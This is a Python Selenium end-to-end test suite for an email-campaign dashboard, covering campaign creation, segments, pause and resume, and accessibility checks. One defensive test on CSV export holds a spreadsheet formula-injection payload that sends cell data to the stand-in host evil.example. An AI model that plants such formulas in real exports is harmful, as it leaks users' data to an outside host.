"""The dashboard in a real browser (Debian's chromium, headless, driven by Selenium) against
`fanmail serve`'s gateway on the embedded stand-in: the whole job walked as a user walks it
(scripts/dashboard_walk.py) at 1280 px and on a 390 px phone, with axe-core checking every
state (no serious or critical violation) and no page wider than the window; then pause and
resume by hand, watching the bar move on from where it stopped."""

from __future__ import annotations

import json
import shutil
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
from selenium.webdriver.chrome.webdriver import WebDriver
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import Select, WebDriverWait

from fanmail.domain.campaign import Campaign
from fanmail.domain.model import ListSettings
from fanmail.services.campaigns import CreateCampaign
from fanmail.services.lists import CreateList
from fanmail.settings import Settings, default_templates_dir
from fanmail_local.console import Console, ConsoleConfig
from fanmail_local.demo_data import generate_subscribers
from fanmail_local.harness import SENDER_ADDRESS
from fanmail_local.http_gateway import LocalApiGateway
from fanmail_local.phased_example import phased_campaign
from fanmail_local.runtime import LocalRuntime
from tests.scripts import ROOT, load

pytestmark = pytest.mark.e2e
walking = load("scripts/dashboard_walk.py")
DRIVER = walking.DRIVER
AXE = ROOT / "tests/e2e/axe/node_modules/axe-core/axe.min.js"
"""axe-core from npm, pinned by tests/e2e/axe/package-lock.json (make runs npm ci)."""
WIDTHS = {"wide": (1280, 900), "phone": (390, 844)}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LocalRuntime, str]]:
    settings = Settings(
        templates_dir=default_templates_dir(),
        progress_interval_s=0.3,
        breaker_min_sample=20,
        inline_max_rate=0.0,  # fanned out as a run over 80/s is: senders read the stored template
    )
    outbox = tmp_path_factory.mktemp("outbox")
    with LocalRuntime(
        settings, sender_identity=SENDER_ADDRESS, max_send_rate=25.0, outbox=outbox
    ) as runtime:
        app = runtime.app
        brand = ListSettings(brand="Fanmail", postal_address="1 Main St, Springfield")
        app.lists.create(CreateList("news", "Fanmail News", brand))
        app.imports.load(generate_subscribers("news", 200, seed=5))
        app.campaigns.create(
            CreateCampaign("news", "newsletter", SENDER_ADDRESS, campaign_id="second")
        )
        console = Console(ConsoleConfig(mode="local"), runtime.recorder)
        gateway = LocalApiGateway(runtime.invoker, "127.0.0.1", 0, console)
        gateway.start()
        try:
            yield runtime, gateway.url
        finally:
            gateway.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[WebDriver]:
    assert shutil.which("chromium") and Path(DRIVER).exists(), "make installs chromium"
    driver = walking.chrome()
    yield driver
    driver.quit()


def axe_violations(browser: WebDriver) -> list[dict[str, Any]]:
    """axe-core's serious and critical violations on the page as it is."""
    if not browser.execute_script("return typeof axe !== 'undefined'"):
        browser.execute_script(AXE.read_text(encoding="utf-8"))
    found: list[dict[str, Any]] = browser.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "axe.run(document, {resultTypes: ['violations']}).then((r) => done(r.violations"
        ".filter((v) => ['serious', 'critical'].includes(v.impact))"
        ".map((v) => ({id: v.id, impact: v.impact, help: v.help,"
        " nodes: v.nodes.slice(0, 5).map((n) => n.target.join(' '))}))));"
    )
    return found


def look_at(browser: WebDriver, width: int, seen: list[str]) -> Any:
    def look(state: str) -> None:
        assert AXE.exists(), f"{AXE} is missing: make installs it (npm ci in tests/e2e/axe)"
        violations = axe_violations(browser)
        assert violations == [], f"axe at {width} px, {state}: {violations}"
        wide = browser.execute_script(
            "return [document.documentElement.scrollWidth, window.innerWidth]"
        )
        assert wide[0] <= wide[1], f"{state} at {width} px: the page is {wide[0]} px wide"
        seen.append(state)

    return look


@pytest.mark.parametrize("width", WIDTHS, ids=list(WIDTHS))
def test_the_whole_job_walked_as_a_user(
    served: tuple[LocalRuntime, str],
    browser: WebDriver,
    width: str,
    tmp_path: Path,
) -> None:
    runtime, url = served
    walking.viewport(browser, *WIDTHS[width])
    seen: list[str] = []
    walk = walking.Walk(browser, url, width, look_at(browser, WIDTHS[width][0], seen), tmp_path)
    walk.walk()
    assert len(seen) == 13
    assert browser.execute_script("return window.innerWidth") == WIDTHS[width][0]
    app = runtime.app
    drafts = [c for c in app.campaigns.list(None, 100)[0] if c.name == f"December {width}"]
    assert len(drafts) == 1, "a double click made two drafts"
    runtime.settle_feedback()  # the walk read who bounced from the first half of them
    job_list = app.lists.summary(walk.list_id)
    assert job_list.counts == {
        "subscribed": walking.BOUNCING + walking.DELIVERED - walking.BOUNCING,
        "bounced": walking.BOUNCING,
    }
    found = app.lists.subscriber(walk.list_id, f"success+first-{width}@simulator.amazonses.com")
    assert found.attributes == {"first_name": "Ada"}  # mapped, notes skipped
    card = browser.execute_script(
        "const r = document.getElementById('outbox-email').getBoundingClientRect();"
        "return [r.top, window.innerHeight]"
    )
    assert -1 <= card[0] < card[1] / 2, "the opened email is not where the user is looking"
    logged = browser.get_log("browser")  # type: ignore[no-untyped-call]
    assert not [e for e in logged if e["level"] == "SEVERE"]


def wait(browser: WebDriver, timeout: float = 60.0) -> WebDriverWait[WebDriver]:
    return WebDriverWait(browser, timeout, poll_frequency=0.2)


def click_in_row(browser: WebDriver, row: str, label: str) -> None:
    """Click the row's button once it is there. The table may be drawn again between finding
    a button and clicking it (a refresh): the click is then tried on the new one."""

    def clicked(b: WebDriver) -> bool:
        buttons = b.find_element(By.CSS_SELECTOR, row).find_elements(By.TAG_NAME, "button")
        button = next((x for x in buttons if x.text == label), None)
        if button is None:
            return False
        button.click()
        return True

    stale = (StaleElementReferenceException, NoSuchElementException)
    WebDriverWait(browser, 10, poll_frequency=0.2, ignored_exceptions=stale).until(clicked)


def select_when_there(browser: WebDriver, form: WebElement, name: str, value: str) -> None:
    """Choose `value` in the form's select once it is offered. Its options are drawn again when
    what they depend on changes (a list chosen: its segments fetched): a choice that meets the
    old ones is tried again on the new."""

    def chosen(_: WebDriver) -> bool:
        Select(form.find_element(By.NAME, name)).select_by_value(value)
        return True

    stale = (StaleElementReferenceException, NoSuchElementException)
    WebDriverWait(browser, 10, poll_frequency=0.2, ignored_exceptions=stale).until(chosen)


def text(browser: WebDriver, element_id: str) -> str:
    return str(browser.find_element(By.ID, element_id).text)


def confirm(browser: WebDriver, button: str) -> None:
    wait(browser, 10).until(lambda b: b.find_element(By.ID, button).is_enabled())
    browser.find_element(By.ID, button).click()
    wait(browser, 5).until(lambda b: b.find_element(By.ID, "confirm").is_displayed())
    browser.find_element(By.ID, "confirm-yes").click()


def percent(browser: WebDriver) -> int:
    return int(browser.find_element(By.ID, "progress").get_attribute("aria-valuenow") or 0)


def test_pause_and_resume(served: tuple[LocalRuntime, str], browser: WebDriver) -> None:
    runtime, url = served
    walking.viewport(browser, *WIDTHS["wide"])
    browser.get(url + "/?campaign=second")
    wait(browser, 10).until(lambda b: text(b, "campaign-title") == "second")
    confirm(browser, "send")
    wait(browser, 20).until(lambda b: text(b, "status") == "sending")
    confirm(browser, "pause")
    wait(browser).until(lambda b: text(b, "status").startswith("paused"))
    runtime.invoker.drain()  # the run notices, checkpoints and stops
    paused_at = percent(browser)
    assert paused_at < 100
    confirm(browser, "resume")
    # the bar moves on from where the pause left it while the resumed run sends (it stayed on
    # the paused run's summary until the end), and the rate is the resumed run's
    wait(browser, 20).until(
        lambda b: text(b, "status") == "sending" and paused_at < percent(b) < 100
    )
    wait(browser, 10).until(lambda b: "Sending 0.0 emails" not in text(b, "rate"))
    assert "your SES account allows 25" in text(browser, "rate")
    wait(browser).until(lambda b: text(b, "status") == "sent" and percent(b) == 100)


def call(url: str, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    """The admin API as a tool on this machine calls it (no browser headers)."""
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url + path, data=data, method=method)
    request.add_header("content-type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            text = answer.read().decode()
            return answer.status, json.loads(text) if text else None
    except urllib.error.HTTPError as refused:
        return refused.code, json.loads(refused.read().decode() or "null")


def test_drafts_lists_and_stored_templates_on_the_stand_in(
    served: tuple[LocalRuntime, str],
) -> None:
    """What the dashboard's buttons call, on the stand-in's tables (DynamoDB through boto3, the
    API, trigger and sender functions' own policies): a list emptied and deleted, a draft edited and
    deleted, a template saved as data and a campaign sent with its pinned version."""
    runtime, url = served
    assert call(url, "POST", "/lists", {"list_id": "spare"})[0] == 201
    member = "/lists/spare/subscribers/one@example.com"
    assert call(url, "PUT", member, {"attributes": {"first_name": "One"}})[0] in (200, 201)
    assert call(url, "DELETE", "/lists/spare")[0] == 409  # it has a subscriber
    assert call(url, "DELETE", member)[0] == 204
    assert call(url, "DELETE", "/lists/spare")[0] == 204
    assert call(url, "DELETE", "/lists/news")[0] == 409  # it has subscribers
    parts = {"subject": "{{ list.brand }} note", "html": "<p>Hello {{ first_name }}</p>"}
    status, saved = call(url, "POST", "/templates/note/versions", parts)
    assert status == 201 and saved["reference"] == "note@v1", saved
    draft = {"list_id": "news", "template": "newsletter", "sender": SENDER_ADDRESS}
    status, view = call(url, "POST", "/campaigns", {**draft, "name": "Spare"})
    one = f"/campaigns/{view['campaign_id']}"
    status, view = call(url, "PATCH", one, {**draft, "name": "Pinned", "template": "note"})
    assert status == 200 and view["template"] == "note@v1", view
    assert call(url, "POST", "/templates/note/versions", {**parts, "html": "<p>v2</p>"})[0] == 201
    assert call(url, "POST", one + "/send")[0] == 202
    for _ in range(300):
        if call(url, "GET", one)[1]["status"] == "sent":
            break
        time.sleep(0.2)
    sent = runtime.recorder.listing() if runtime.recorder else []
    assert any(subject == "Fanmail note" for _, _, subject in sent)
    stored = {t["name"]: t["version"] for t in call(url, "GET", "/templates")[1]["stored"]}
    assert stored["note"] == 2  # beside any the walk saved
    # a campaign small enough for the trigger to send itself renders its pinned version there
    assert call(url, "POST", "/lists", {"list_id": "tiny", "brand": "Tiny"})[0] == 201
    one_person = {"attributes": {"first_name": "Ann"}}
    assert call(url, "PUT", "/lists/tiny/subscribers/ann@example.com", one_person)[0] == 200
    status, small = call(
        url, "POST", "/campaigns", {**draft, "list_id": "tiny", "template": "note"}
    )
    assert (
        small["template"] == "note@v2"
        and call(url, "POST", f"/campaigns/{small['campaign_id']}/send")[0] == 202
    )
    status, view = call(url, "POST", "/campaigns", {**draft, "name": "Gone"})
    assert call(url, "DELETE", f"/campaigns/{view['campaign_id']}")[0] == 204
    assert call(url, "DELETE", one)[0] == 409  # sent: kept


def test_the_campaign_form_estimates_a_segment_and_creates_with_it(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    runtime, url = served
    browser.get(url)
    wait(browser, 10).until(
        lambda b: b.find_elements(By.CSS_SELECTOR, "#create-form select[name=list_id] option")
    )
    open_the_campaign_form(browser)
    form = browser.find_element(By.ID, "create-form")
    # earlier tests made lists and stored templates of their own
    Select(form.find_element(By.NAME, "list_id")).select_by_value("news")
    Select(form.find_element(By.NAME, "template")).select_by_value("newsletter")
    form.find_element(By.NAME, "segment").send_keys("city exists")
    browser.find_element(By.ID, "estimate").click()
    wait(browser, 20).until(lambda b: "would get it" in text(b, "segment-size"))
    every = sum(1 for s in runtime.ports.subscribers.page("news", None, 1000).subscribers)
    assert f"of {every:,} would get it" in text(browser, "segment-size")
    form.find_element(By.NAME, "sender").clear()  # the list may have filled it in
    form.find_element(By.NAME, "sender").send_keys(SENDER_ADDRESS)
    form.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    try:
        wait(browser, 20).until(lambda b: "#campaigns/cmp-" in b.current_url)
    except Exception as error:
        raise AssertionError(f"not created: {text(browser, 'create-notice')!r}") from error
    created = runtime.app.campaigns.get(browser.current_url.rsplit("/", 1)[1])
    assert created.segment is not None
    assert created.segment.segment().render() == "city exists"


def open_the_campaign_form(browser: WebDriver) -> None:
    """Open the New campaign form unless an earlier test left it open: a browser.get that only
    changes the URL's fragment keeps the page as it was (tests share the browser, and run in
    any order under xdist)."""
    if browser.find_element(By.ID, "new-campaign").get_attribute("open") is None:
        browser.find_element(By.CSS_SELECTOR, "#new-campaign summary").click()


def rows_of(browser: WebDriver, table: str) -> list[tuple[str, str]]:
    """(data-kind or class, text) of each row of a table's body, read at once."""
    found: list[list[str]] = browser.execute_script(
        f"return [...document.querySelectorAll('#{table} tbody tr')]"
        ".map((r) => [r.dataset.kind || r.className, r.innerText])"
    )
    return [(kind, row) for kind, row in found]


@pytest.fixture(scope="module")
def phased(served: tuple[LocalRuntime, str]) -> Campaign:
    """A finished local-time A/B test with quiet hours (the real machinery's record), stored
    on the stand-in's campaign table for the dashboard to show."""
    runtime, _ = served
    campaign = phased_campaign("news", "december")
    runtime.ports.campaigns.create(campaign)
    return campaign


@pytest.mark.parametrize("width", WIDTHS, ids=list(WIDTHS))
def test_the_phase_timeline(
    served: tuple[LocalRuntime, str], browser: WebDriver, phased: Campaign, width: str
) -> None:
    """Every phase in order (the early zone's test, the wait, the winner to its rest, each
    later zone's winner at its own 09:00), with its counts, and the decision's figures."""
    _, url = served
    walking.viewport(browser, *WIDTHS[width])
    browser.get(url + "/?campaign=december")
    wait(browser, 20).until(lambda b: b.find_element(By.ID, "phases").is_displayed())
    assert phased.phases is not None and phased.phases.decision is not None
    expected = phased.phases.phases
    rows = rows_of(browser, "phase-table")  # one read: the dashboard redraws every second
    assert [kind for kind, _ in rows] == [p.kind.value for p in expected]
    for (_, row), phase in zip(rows, expected, strict=True):
        assert phase.label in row and f"{phase.counts['sent']:,}" in row
    assert "Asia/Tokyo" in rows[0][1] and "09:00" in rows[0][1], rows[0]  # on Tokyo's clock
    assert "held out" in rows[0][1]
    # Tokyo's rest comes 2 h after its 09:00 test, inside the quiet hours 10:30-12:00
    assert "2h after the test" in rows[1][1] and "sent from 12:00" in rows[1][1]
    assert "quiet hours 10:30\u201312:00" in text(browser, "phase-rules")
    winners = [row for kind, row in rows_of(browser, "decision-table") if kind == "winner"]
    assert len(winners) == 1 and winners[0].split()[0] == "B" and "beats all" in winners[0]
    assert "B goes to the rest" in text(browser, "decision-reason")
    heading = "return document.getElementById('decision-successes').textContent"
    assert browser.execute_script(heading) == "Clicked"  # the metric's word (a phone hides it)
    look_at(browser, WIDTHS[width][0], [])(f"the phase timeline at {width}")


def test_saved_segments_in_the_lists_view_and_the_campaign_form(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """A saved segment made in the list's Segments card (a bad one answered with the API's
    message naming the node), chosen in the campaign form: its estimate at once, its exact count
    as a job with progress beside the button, and the campaign created from it."""
    runtime, url = served
    browser.get(f"{url}/#lists")
    click_in_row(browser, "#lists tr[data-id=news]", "Segments")
    form = browser.find_element(By.ID, "segment-form")
    wait(browser, 10).until(lambda b: form.is_displayed())
    form.find_element(By.NAME, "name").send_keys("Has a city")
    form.find_element(By.NAME, "segment").send_keys("city >")
    browser.find_element(By.ID, "segment-save").click()
    wait(browser, 10).until(lambda b: "segment: " in text(b, "segment-notice"))
    form.find_element(By.NAME, "segment").clear()
    form.find_element(By.NAME, "segment").send_keys("city exists")
    browser.find_element(By.ID, "segment-save").click()
    wait(browser, 10).until(lambda b: "Saved Has a city" in text(b, "segment-notice"))
    wait(browser, 10).until(lambda b: "city exists" in text(b, "segments"))  # refreshed after
    [saved] = runtime.app.saved_segments.of_list("news")
    browser.get(f"{url}/#campaigns")
    wait(browser, 10).until(
        lambda b: b.find_elements(By.CSS_SELECTOR, "#create-form select[name=segment_id] option")
    )
    open_the_campaign_form(browser)
    create = browser.find_element(By.ID, "create-form")
    Select(create.find_element(By.NAME, "list_id")).select_by_value("news")
    Select(create.find_element(By.NAME, "template")).select_by_value("newsletter")
    select_when_there(browser, create, "segment_id", saved.segment_id)  # the list's segments
    wait(browser, 20).until(lambda b: "would get it" in text(b, "segment-size"))
    browser.find_element(By.ID, "exact-count").click()
    wait(browser, 30).until(lambda b: "(exact)" in text(b, "exact-count-text"))
    create.find_element(By.NAME, "sender").clear()  # the list may have filled it in
    create.find_element(By.NAME, "sender").send_keys(SENDER_ADDRESS)
    create.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    wait(browser, 20).until(lambda b: "#campaigns/cmp-" in b.current_url)
    created = runtime.app.campaigns.get(browser.current_url.rsplit("/", 1)[1])
    assert (created.segment_id, created.segment_version) == (saved.segment_id, 1)


def test_the_rejected_rows_download_keeps_formulas_as_text(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """The file's own text goes into the download: a cell a spreadsheet would evaluate gets a
    leading apostrophe, as in the CLI's rejected file and in exports."""
    _, url = served
    browser.get(url + "/")
    rejects = [
        {"line": 4, "email": '=HYPERLINK("http://evil.example/?"&A1;"Click")', "reason": "no @"},
        {"line": 5, "email": "+1", "reason": "-x"},
        {"line": 6, "email": "ada@example.com", "reason": 'a "quoted" word'},
    ]
    csv_text: str = browser.execute_async_script(
        "const [rejects, done] = arguments;"
        "import('/dashboard/imports.js')"
        ".then((m) => done(m.rejectedCsv(rejects)), (e) => done(String(e)));",
        rejects,
    )
    assert csv_text.split("\r\n") == [
        "line,email,reason",
        '"4","\'=HYPERLINK(""http://evil.example/?""&A1;""Click"")","no @"',
        '"5","\'+1","\'-x"',
        '"6","ada@example.com","a ""quoted"" word"',
        "",
    ]


def test_a_run_without_a_total_yet_shows_no_progress(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """A local-time run waiting for its first phase has a summary of nobody yet: 0 %, not the
    100 % it showed; a run that ended having reached nobody is done."""
    _, url = served
    browser.get(url + "/")
    outcomes = ["sent", "failed"]
    views = [
        {"status": "scheduled", "outcomes": outcomes, "summary": {"recipients": 0}},
        {"status": "sending", "outcomes": outcomes, "progress": {}},
        {"status": "sent", "outcomes": outcomes, "summary": {"recipients": 0}},
        {"status": "sending", "outcomes": outcomes, "progress": {"recipients": 8, "sent": 2}},
    ]
    shares: list[int] = browser.execute_async_script(
        "const [views, done] = arguments;"
        "import('/dashboard/campaigns.js')"
        ".then((m) => done(views.map((v) => m.progressOf(v).share)), (e) => done(String(e)));",
        views,
    )
    assert shares == [0, 0, 100, 25]


def test_a_late_phase_says_when_it_was_sent_and_why_it_is_late(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """A phase whose window had ended before it could start read "done (late: needs 0 a
    second)", beside its zone's wall time as if sent then: it says why, and when it was sent."""
    _, url = served
    browser.get(url + "/")
    instant = 1796628000.0  # 2026-12-07T07:20Z: 21:20 on UTC+14's clock
    phases = [
        {
            "instant": instant,
            "first_send_at": instant + 50_340,
            "fits": False,
            "required_rate": None,
        },
        {"instant": instant, "first_send_at": instant, "fits": False, "required_rate": 12.2},
        {"instant": instant, "first_send_at": instant + 30, "fits": True, "required_rate": 1.0},
    ]
    found: list[list[str]] = browser.execute_async_script(
        "const [phases, done] = arguments;"
        "import('/dashboard/phases.js').then((m) => done(phases.map((p, i) => ["
        "  m.phaseState(p, i === 1 ? 'waiting' : 'done'),"
        "  m.lateOpening(p, 'Pacific/Kiritimati')])), (e) => done(String(e)));",
        phases,
    )
    assert [state for state, _ in found] == [
        "done (late: its window had ended before it could start)",
        "waiting (late: it needs 13 a second)",
        "done",
    ]
    assert found[0][1].startswith("; sent from about ") and "Dec 8, 2026, 11:19" in found[0][1], (
        found
    )
    assert [opening for _, opening in found[1:]] == ["", ""]  # on time (a minute's grace)


def test_a_subscriber_opened_from_the_table_shows_its_consent_history(
    served: tuple[LocalRuntime, str], browser: WebDriver, tmp_path: Path
) -> None:
    """A page of subscribers carries no history: one opened from the table is read on its own,
    so the import that added it shows, as it does when found by address."""
    _, url = served
    walking.viewport(browser, *WIDTHS["wide"])
    seen: list[str] = []
    walk = walking.Walk(browser, url, "history", look_at(browser, 1280, seen), tmp_path)
    walk.browser.get("about:blank")
    walk.create_list()
    walk.import_members()
    browser.get(f"{url}/#subscribers/{walk.list_id}")
    link = "#subscribers tbody tr[data-email] a"  # every one of them came in by the import
    wait(browser, 10).until(lambda b: b.find_elements(By.CSS_SELECTOR, link))
    first = browser.find_element(By.CSS_SELECTOR, link)
    address = first.text
    first.click()
    wait(browser, 10).until(lambda b: text(b, "subscriber-title") == address)
    wait(browser, 10).until(lambda b: "import" in text(b, "history"))
    assert "No recorded changes" not in text(browser, "history")
    look_at(browser, 1280, seen)("a subscriber opened from the table")


def test_the_campaign_form_starts_from_the_lists_sender(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """The Sender field is filled from the chosen list's sender and may be left empty (the API
    then uses the list's); a list without one needs a sender typed in."""
    runtime, url = served
    list_body = {"list_id": "signed", "name": "Signed", "sender": SENDER_ADDRESS}
    assert call(url, "POST", "/lists", list_body)[0] == 201
    one = {"attributes": {"first_name": "Ann"}}
    assert call(url, "PUT", "/lists/signed/subscribers/ann@example.com", one)[0] in (200, 201)
    walking.viewport(browser, *WIDTHS["wide"])
    browser.get(f"{url}/?sender#campaigns")  # a page of its own: the form as it first shows
    wait(browser, 10).until(
        lambda b: b.find_elements(By.CSS_SELECTOR, "#create-form option[value=signed]")
    )
    open_the_campaign_form(browser)
    form = browser.find_element(By.ID, "create-form")
    sender = form.find_element(By.NAME, "sender")
    assert "example.com" not in (sender.get_attribute("placeholder") or "")
    Select(form.find_element(By.NAME, "list_id")).select_by_value("news")  # no sender
    assert sender.get_attribute("value") == "" and sender.get_attribute("required")
    Select(form.find_element(By.NAME, "list_id")).select_by_value("signed")
    assert sender.get_attribute("value") == SENDER_ADDRESS
    assert not sender.get_attribute("required")
    Select(form.find_element(By.NAME, "template")).select_by_value("newsletter")
    sender.clear()  # empty: the list's
    form.find_element(By.NAME, "name").send_keys("From the list")
    browser.find_element(By.ID, "create").click()
    try:
        wait(browser, 20).until(lambda b: "#campaigns/cmp-" in b.current_url)
    except Exception as error:
        raise AssertionError(f"not created: {text(browser, 'create-notice')!r}") from error
    created = runtime.app.campaigns.get(browser.current_url.rsplit("/", 1)[1])
    assert created.list_id == "signed" and SENDER_ADDRESS in created.sender


def test_a_draft_shows_what_it_will_do_not_zero_outcomes(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """A draft (nothing sent) says whom it goes to instead of a wall of zero outcome tiles."""
    _, url = served
    draft = {"list_id": "news", "template": "newsletter", "sender": SENDER_ADDRESS}
    status, view = call(url, "POST", "/campaigns", {**draft, "segment": "city exists"})
    assert status == 201, view
    walking.viewport(browser, *WIDTHS["wide"])
    browser.get(f"{url}/?draft#campaigns/{view['campaign_id']}")
    wait(browser, 10).until(lambda b: b.find_element(By.ID, "plan").is_displayed())
    plan = text(browser, "plan")
    assert "Goes to the list Fanmail News" in plan and "city exists" in plan, plan
    assert not browser.find_element(By.ID, "figures").is_displayed()
    look_at(browser, 1280, [])("a draft's plan")


def test_deleting_a_list_with_subscribers_says_how_to_empty_it(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """A list with subscribers cannot be deleted: Delete says so and how to empty it, without
    asking to type a confirmation for a request that would be refused. An empty list still asks."""
    _, url = served
    assert call(url, "POST", "/lists", {"list_id": "void", "name": "Void"})[0] == 201
    walking.viewport(browser, *WIDTHS["wide"])
    browser.get(f"{url}/?delete#lists")
    click_in_row(browser, "#lists tr[data-id='news']", "Delete…")
    wait(browser, 10).until(lambda b: b.find_element(By.ID, "lists-notice").is_displayed())
    notice = text(browser, "lists-notice")
    assert "deleted only when it is empty" in notice and "fanmail export --list news" in notice
    assert "DELETE /lists/news/subscribers/ADDRESS" in notice
    assert not browser.find_element(By.ID, "confirm").is_displayed()
    look_at(browser, 1280, [])("a list with subscribers: how to empty it")
    click_in_row(browser, "#lists tr[data-id='void']", "Delete…")
    wait(browser, 5).until(lambda b: b.find_element(By.ID, "confirm").is_displayed())
    assert "Type void to confirm" in text(browser, "confirm-typed-hint")
    browser.find_element(By.ID, "confirm-typed").send_keys("void")
    browser.find_element(By.ID, "confirm-yes").click()
    wait(browser, 10).until(lambda b: "Deleted Void" in text(b, "lists-notice"))
    assert call(url, "GET", "/lists/void")[0] == 404


def test_a_lists_sign_up_form_and_its_breaker_show_in_its_settings(
    served: tuple[LocalRuntime, str], browser: WebDriver
) -> None:
    """Once public sign-up is on, the form's address is a link in the list's row and in its
    Settings; a list whose sign-up breaker tripped says so there, and until when."""
    runtime, url = served
    body = {"list_id": "open-form", "name": "Open form", "sender": SENDER_ADDRESS}
    assert call(url, "POST", "/lists", body)[0] == 201
    status, opened = call(url, "PATCH", "/lists/open-form", {"public_signup": True})
    form_url = opened["signup_form"]  # at the stack's public URL (its setting, here the default)
    assert status == 200 and form_url.endswith("/subscribe/open-form")
    with urllib.request.urlopen(f"{url}/subscribe/open-form", timeout=30) as page:
        assert page.status == 200 and b"<form" in page.read()
    breaker = runtime.app.signup_breaker
    now = breaker.clock.now()
    reason = "its confirmation mails' bounce rate 12.0 % passed 10 %"
    assert breaker.limits.hold("signup-breaker:open-form:closed", now + 3600, now, note=reason)
    walking.viewport(browser, *WIDTHS["wide"])
    browser.get(f"{url}/?signup#lists")
    row = "#lists tr[data-id='open-form']"
    wait(browser, 10).until(lambda b: b.find_elements(By.CSS_SELECTOR, row))
    hrefs = f'return [...document.querySelectorAll("{row} a")].map((a) => a.href)'
    assert form_url in browser.execute_script(hrefs)  # read at once: the table is redrawn
    click_in_row(browser, row, "Settings")
    # drawn from the page of lists, then again from the list's own read (with its breaker)
    wait(browser, 10).until(lambda b: b.find_element(By.ID, "signups-closed").is_displayed())
    assert "Sign-up form: " in text(browser, "signup-state")
    link = "const a = document.querySelector('#signup-state a'); return [a.href, a.textContent]"
    assert browser.execute_script(link) == [form_url, form_url]
    assert "closed by the list's sign-up breaker until" in text(browser, "signups-closed")
    assert reason in text(browser, "signups-closed")
    look_at(browser, 1280, [])("a list's sign-up form in its settings")
    click_in_row(browser, "#lists tr[data-id='news']", "Settings")  # the form is off
    wait(browser, 10).until(lambda b: "sign-up form is off" in text(b, "signup-state"))
    assert not browser.find_element(By.ID, "signups-closed").is_displayed()
